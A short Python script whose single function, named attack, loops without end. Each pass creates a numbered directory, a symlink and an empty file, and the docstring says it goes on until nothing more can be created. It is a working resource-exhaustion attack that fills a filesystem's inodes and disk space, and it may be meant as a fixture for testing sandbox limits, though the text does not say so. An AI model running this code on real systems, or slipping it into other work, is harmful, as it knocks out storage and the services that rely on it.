"""Makes files, folders and links until nothing goes."""
# ruff: noqa

import os


def attack():
    number = 0
    while True:
        number += 1
        os.mkdir(f"d{number}")
        os.symlink("x", f"d{number}/l")
        open(f"d{number}/f", "w").close()
